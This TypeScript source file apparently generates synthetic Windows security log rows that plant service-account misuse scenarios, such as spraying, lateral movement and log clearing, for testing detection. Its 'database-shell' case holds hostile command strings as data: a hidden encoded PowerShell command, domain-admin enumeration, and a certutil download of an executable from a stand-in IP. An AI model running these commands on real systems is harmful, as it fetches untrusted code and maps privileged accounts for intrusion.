import { DAY, HOUR, MINUTE } from '@scout/detection/time';
import { DAYS } from './calendar.ts';
import type { Draw } from './draw.ts';
import type { Host } from './host.ts';
import { type Stage, startShell } from './life.ts';
import type { Session } from './people.ts';
import { type BankRow, createRows, type Origin } from './rows.ts';
import type { Account, Life } from './world.ts';

const SECOND = 1_000;
const SQLCMD = 'C:\\Program Files\\Microsoft SQL Server\\160\\Tools\\Binn\\SQLCMD.EXE';
const SSMS = 'C:\\Program Files (x86)\\Microsoft SQL Server Management Studio 19\\Common7\\IDE\\Ssms.exe';
const DBEAVER = 'C:\\Users\\Public\\DBeaver\\dbeaver.exe';
const SVCHOST = 'C:\\Windows\\System32\\svchost.exe';

/** A planned story, with its facts after it has happened. */
export type Plot = {
  story: string;
  kind: Kind;
  day: number;
  account: Account | null;
  /** The person behind it; null if the events identify nobody. */
  person: string | null;
};

/** Input of a story: the account, a present person, and a name for its rows. */
type Telling = Stage & {
  plot: Plot;
  account: Account;
  session: Session;
  day: number;
  /** A time while the person is signed in. */
  time: number;
};

type ToldStory = { person: string | null };

/** Misuse of service accounts, by kind; each writes one to five rows. */
const KINDS = {
  'interactive-workstation': (telling: Telling): ToldStory => {
    const { rows, draw, plot, account, session, time } = telling;
    const { workstation } = session.person;
    rows.local({ time, story: plot.story }, account, workstation, '2');
    if (draw.chance(0.5))
      rows.local({ time: time + 40 * MINUTE, story: plot.story }, account, workstation, '7');
    return { person: session.person.name };
  },
  'rdp-to-server': ({ rows, plot, account, session, time, draw }) => {
    const to = draw.chance(0.5) ? account.destinations[0]! : account.sources[0]!;
    rows.local({ time, story: plot.story }, account, to, '10', session.person.workstation);
    return { person: session.person.name };
  },
  runas: ({ rows, plot, account, session, time, draw }) => {
    const { person, logonId } = session;
    const story = plot.story;
    rows.explicit({ time, story }, { name: person.name, session: logonId }, account, person.workstation, {
      server: 'localhost',
      program: SVCHOST,
    });
    rows.local({ time: time + 80, story }, account, person.workstation, draw.chance(0.5) ? '2' : '9');
    if (draw.chance(0.5))
      rows.network(
        { time: time + 30 * SECOND, story },
        account,
        person.workstation,
        account.destinations[0]!,
        account.app.ntlm,
      );
    return { person: person.name };
  },
  'database-client': ({ rows, plot, account, session, time, draw }) => {
    const { person, logonId } = session;
    const to = account.destinations[0]!;
    const [program, commandLine] = draw.pick([
      [SQLCMD, `sqlcmd -S ${to.name} -U ${account.name} -d ${account.app.name}`],
      [SSMS, `"${SSMS}" -S ${to.name} -U ${account.name}`],
      [DBEAVER, `dbeaver.exe -con "driver=sqlserver|server=${to.name}|user=${account.name}"`],
    ] as const);
    for (let i = draw.between(1, 2); i > 0; i -= 1)
      rows.process({ time: time + i * 20 * MINUTE, story: plot.story }, person, person.workstation, {
        program,
        parent: 'C:\\Windows\\explorer.exe',
        commandLine,
        session: logonId,
      });
    return { person: person.name };
  },
  'new-database': (telling) => {
    const { world, draw, account } = telling;
    const to = draw.pick(draw.pick(world.apps.filter((app) => app !== account.app)).databases.prod);
    return reach(telling, account.sources[0]!, to, draw.between(1, 3));
  },
  'sibling-database': (telling) => {
    const { draw, account } = telling;
    const own = new Set(account.destinations);
    const siblings = account.app.accounts.filter(({ destinations }) => !own.has(destinations[0]!));
    const to = siblings.length > 0 ? draw.pick(siblings).destinations[0]! : account.app.databases.uat[0]!;
    return reach(telling, account.sources[0]!, to, draw.between(1, 3));
  },
  'from-workstation': (telling) => {
    const { account, session, draw } = telling;
    reach(telling, session.person.workstation, account.destinations[0]!, draw.between(1, 4));
    return { person: session.person.name };
  },
  'from-jump-host': (telling) => {
    const { world, rows, account, draw, time, plot, session } = telling;
    const admin = session.person;
    const jump = draw.pick(world.jumpHosts);
    // The person's own logon to the jump host is ordinary and not part of the story.
    rows.local({ time: time - 12 * MINUTE }, admin, jump, '10', admin.workstation);
    if (draw.chance(0.3)) rows.local({ time, story: plot.story }, account, account.sources[0]!, '10', jump);
    else reach(telling, jump, account.destinations[0]!, draw.between(1, 3));
    return { person: admin.name };
  },
  'stolen-from-another-host': (telling) => {
    const { world, account, draw } = telling;
    const other = draw.pick(world.apps.filter((app) => app !== account.app));
    const to = draw.chance(0.6) ? account.destinations[0]! : draw.pick(world.servers);
    return reach(telling, draw.pick(other.servers.prod), to, draw.between(1, 4));
  },
  'odd-hour': (telling) => {
    const { calendar, rows, account, day, plot, draw } = telling;
    const busy = Math.floor(account.minute / 60);
    // About half a day away from its usual time.
    const time = calendar.at(
      account.app.zone,
      day,
      ((busy + draw.between(9, 15)) % 24) * 60 + draw.between(0, 59),
    );
    for (let i = draw.between(2, 5); i > 0; i -= 1)
      rows.network(
        { time: time + i * draw.between(1, 12) * MINUTE, story: plot.story },
        account,
        account.sources[0]!,
        account.destinations[0]!,
        account.app.ntlm,
      );
    return { person: null };
  },
  spraying: (telling) => {
    const { world, rows, account, session, time, plot, draw } = telling;
    const to = account.destinations[0]!;
    const from = draw.chance(0.6)
      ? session.person.workstation
      : draw.pick(draw.pick(world.apps).servers.test);
    const others = draw.some(world.accounts, 4).filter((other) => other !== account);
    for (const [i, target] of [account, ...others].entries())
      rows.refused({ time: time + i * draw.between(2, 40) * SECOND, story: plot.story }, target, from, to, {
        type: '3',
        code: '0xc000006a',
        isNtlm: true,
      });
    return { person: from === session.person.workstation ? session.person.name : null };
  },
  'guessed-password': (telling) => {
    const { rows, account, session, time, plot, draw } = telling;
    const { workstation } = session.person;
    const to = account.destinations[0]!;
    const tries = draw.between(2, 4);
    for (let i = 0; i < tries; i += 1)
      rows.refused(
        { time: time + i * draw.between(5, 90) * SECOND, story: plot.story },
        account,
        workstation,
        to,
        {
          type: '3',
          code: '0xc000006a',
          isNtlm: true,
        },
      );
    rows.network({ time: time + 8 * MINUTE, story: plot.story }, account, workstation, to, true);
    return { person: session.person.name };
  },
  'domain-controller': (telling) => {
    const { world, account, draw } = telling;
    return reach(telling, account.sources[0]!, draw.pick(world.controllers), draw.between(1, 3));
  },
  'dormant-wakes': (telling) => {
    const { world, rows, account, time, plot, draw } = telling;
    const from = draw.chance(0.5) ? draw.pick(account.app.servers[account.env]) : draw.pick(world.servers);
    const to = draw.chance(0.5) ? account.destinations[0]! : draw.pick(world.servers);
    for (let i = draw.between(1, 3); i > 0; i -= 1)
      rows.network({ time: time + i * 3 * MINUTE, story: plot.story }, account, from, to, account.app.ntlm);
    return { person: null };
  },
  'test-in-production': (telling) => {
    const { account, draw } = telling;
    return reach(telling, account.sources[0]!, draw.pick(account.app.databases.prod), draw.between(1, 3));
  },
  'lateral-movement': (telling) => {
    const { world, rows, account, time, plot, draw } = telling;
    // One further host per day.
    for (const [i, to] of draw.some(world.servers, draw.between(3, 5)).entries())
      rows.network(
        { time: time + i * DAY + draw.between(0, 4 * HOUR), story: plot.story },
        account,
        account.sources[0]!,
        to,
        account.app.ntlm,
      );
    return { person: null };
  },
  'workstations-reached': (telling) => {
    const { world, rows, account, time, plot, draw } = telling;
    for (const [i, { workstation }] of draw.some(world.people, draw.between(1, 4)).entries())
      rows.network(
        { time: time + i * 2 * MINUTE, story: plot.story },
        account,
        account.sources[0]!,
        workstation,
        account.app.ntlm,
      );
    return { person: null };
  },
  'log-cleared': (telling) => {
    const { rows, account, session, time, plot } = telling;
    const host = account.sources[0]!;
    const story = plot.story;
    rows.local({ time, story }, account, host, '10', session.person.workstation);
    rows.logCleared({ time: time + 15 * MINUTE, story }, account, host);
    return { person: session.person.name };
  },
  'service-installed': (telling) => {
    const { rows, world, account, session, time, plot, draw } = telling;
    const host = draw.pick(draw.pick(world.apps).servers.prod);
    const story = plot.story;
    rows.serviceInstalled(
      { time, story },
      session.person,
      account,
      host,
      draw.pick(['UpdateHelper', 'WinSync', 'PSEXESVC']),
    );
    rows.local({ time: time + 2 * SECOND, story }, account, host, '5');
    return { person: session.person.name };
  },
  'task-created': (telling) => {
    const { rows, world, account, session, time, plot, draw } = telling;
    const host = draw.pick(draw.pick(world.apps).servers.prod);
    const story = plot.story;
    rows.taskCreated(
      { time, story },
      session.person,
      account,
      host,
      draw.pick(['Updater', 'sync1', 'cleanup']),
    );
    rows.local({ time: time + 5 * MINUTE, story }, account, host, '4');
    return { person: session.person.name };
  },
  'reset-then-used': (telling) => {
    const { world, rows, account, session, time, plot, draw } = telling;
    const { person } = session;
    const story = plot.story;
    rows.accountChanged({ time, story }, 4724, person, account, draw.pick(world.controllers));
    if (draw.chance(0.5)) rows.local({ time: time + 6 * MINUTE, story }, account, person.workstation, '2');
    else
      rows.network(
        { time: time + 6 * MINUTE, story },
        account,
        person.workstation,
        account.destinations[0]!,
        account.app.ntlm,
      );
    return { person: person.name };
  },
  'database-shell': (telling) => {
    const { account, time, plot, draw } = telling;
    const command = draw.pick([
      'powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=',
      'whoami /priv & net group "domain admins" /domain',
      'certutil -urlcache -f http://203.0.113.7/a.exe C:\\Windows\\Temp\\a.exe',
    ]);
    for (let i = draw.between(1, 2); i > 0; i -= 1)
      startShell(telling, account, account.sources[0]!, time + i * 4 * MINUTE, command, plot.story);
    return { person: null };
  },
  /** The usual way at the usual hour, without the job that always came with it. */
  'without-its-job': (telling) => {
    const { calendar, account, day, draw } = telling;
    const time = calendar.at(account.app.zone, day, account.minute) + draw.between(-20, 20) * MINUTE;
    return reach({ ...telling, time }, account.sources[0]!, account.destinations[0]!, draw.between(1, 3));
  },
} as const satisfies Record<string, (telling: Telling) => ToldStory>;
export type Kind = keyof typeof KINDS;

/** Kinds that require an administrator's rights or paths; the others are about people without them. */
const BY_ADMINS: ReadonlySet<Kind> = new Set([
  'from-jump-host',
  'service-installed',
  'task-created',
  'reset-then-used',
]);
/** Kinds without a typed password, possible with managed accounts: by a ticket or a compromised machine. */
const WITHOUT_PASSWORD: ReadonlySet<Kind> = new Set([
  'new-database',
  'sibling-database',
  'stolen-from-another-host',
  'odd-hour',
  'domain-controller',
  'dormant-wakes',
  'test-in-production',
  'lateral-movement',
  'workstations-reached',
  'database-shell',
  'without-its-job',
]);
const REGULAR: readonly Life[] = ['poller', 'nightly', 'service', 'daytime', 'weekly'];

/** Stories and their days: each kind once before any is told again, none in the first three days. */
export function planStories(draw: Draw, count: number): Plot[] {
  const plots: Plot[] = [];
  while (plots.length < count)
    for (const kind of draw.some(Object.keys(KINDS) as Kind[], count - plots.length)) {
      const latest = kind === 'lateral-movement' ? DAYS - 7 : DAYS - 2;
      const day = draw.between(kind === 'dormant-wakes' ? 20 : 3, latest);
      plots.push({ story: `S${plots.length + 1}`, kind, day, account: null, person: null });
    }
  return plots;
}

/** Stories of a bank: as many for its accounts as in any other, so that a budget has room for all. */
export function countStories(ofKind: number, accounts: number): number {
  return Math.max(1, Math.round((ofKind * Object.keys(KINDS).length * accounts) / 2_100));
}

/** Attempts of one day to find an account, a person and machines whose events are collected. */
const ATTEMPTS = 12;

/**
 * Tells a story with somebody present.
 *
 * @returns its rows, and the ordinary ones around them; empty if no collected event names the account, so that it waits a day
 */
export function tell(
  stage: Omit<Stage, 'rows'>,
  plot: Plot,
  day: number,
  sessions: readonly Session[],
  isWithin: (time: number) => boolean,
): BankRow[] {
  const { world, draw } = stage;
  const wantsAdmin = BY_ADMINS.has(plot.kind);
  const candidates = sessions.filter(({ person }) => person.isAdmin === wantsAdmin);
  const accounts = world.accounts.filter((one) => fits(one, plot.kind, day));
  if (candidates.length === 0 || accounts.length === 0) return [];
  for (let attempt = 0; attempt < ATTEMPTS; attempt += 1) {
    const written: BankRow[] = [];
    const rows = createRows(world, draw, (row) => written.push(row));
    const session = draw.pick(candidates);
    const account = draw.pick(accounts);
    const time = draw.between(session.from + 20 * MINUTE, session.until - 90 * MINUTE);
    const { person } = KINDS[plot.kind]({ ...stage, rows, plot, account, session, day, time });
    const own = written.filter((row) => row.story === plot.story && isWithin(row.time));
    if (!own.some((row) => names(row, account))) continue;
    plot.account = account;
    plot.person = person;
    return written;
  }
  return [];
}

/** Without the name nobody could find it: a program's start whose command line is not recorded. */
function names({ fields }: BankRow, { name }: Account): boolean {
  return Object.values(fields).some((value) => value?.toLowerCase().includes(name.toLowerCase()));
}

function fits(account: Account, kind: Kind, day: number): boolean {
  if (account.since > Math.max(0, day - 6) || account.broken !== null || account.developer !== null)
    return false;
  if (account.managed && !WITHOUT_PASSWORD.has(kind)) return false;
  if (kind === 'dormant-wakes') return account.life === 'dormant';
  if (kind === 'test-in-production') return account.env === 'test' && REGULAR.includes(account.life);
  if (kind === 'database-shell') return account.life === 'engine' && !account.usesShell;
  if (kind === 'without-its-job') return account.life === 'nightly' && account.env === 'prod';
  if (kind === 'odd-hour') return account.life === 'nightly' || account.life === 'weekly';
  return account.env === 'prod' && REGULAR.includes(account.life);
}

/** Network logons from one host to another, minutes apart. */
function reach(
  { rows, account, plot, time, draw }: Telling,
  from: Host | Origin,
  to: Host,
  count: number,
): ToldStory {
  for (let i = 0; i < count; i += 1)
    rows.network(
      { time: time + i * draw.between(1, 25) * MINUTE, story: plot.story },
      account,
      from,
      to,
      account.app.ntlm,
    );
  return { person: null };
}
